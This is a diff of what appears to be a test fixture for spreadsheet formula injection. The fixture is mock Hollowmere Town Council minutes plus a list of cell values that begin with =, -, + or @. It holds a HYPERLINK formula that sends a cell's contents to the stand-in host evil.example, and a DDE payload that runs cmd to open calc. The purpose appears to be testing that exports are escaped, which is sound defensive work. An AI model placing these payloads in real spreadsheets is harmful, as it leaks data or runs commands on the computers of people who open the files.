@@ -21,10 +21,11 @@ Minutes of the Meeting of Hollowmere Town Council held on Tuesday 14 May 2024 at
 Present: Councillors A Penrose (Chair), R Quill
 
 1. Formulas
-RESOLVED that =HYPERLINK("http://evil.example/?x="&A1,"Click") be noted.
-RESOLVED that -2+3+cmd|' /C calc'!A0 be noted.
-RESOLVED that @SUM(1+1) be approved.
-RESOLVED that +44 1234 567890 be the telephone number of the Clerk.
+RESOLVED:
+(a) =HYPERLINK("http://evil.example/?x="&A1,"Click") be noted;
+(b) -2+3+cmd|' /C calc'!A0 be noted;
+(c) @SUM(1+1) be approved;
+(d) +44 1234 567890 be the telephone number of the Clerk.
 """
 CELLS = """SELECT ?cell { VALUES ?cell { "=1+1" "-12.50" -5 "+SUM(A1)" "@x" "plain, with a comma" "\\t=1" "Ärger" } }"""
 
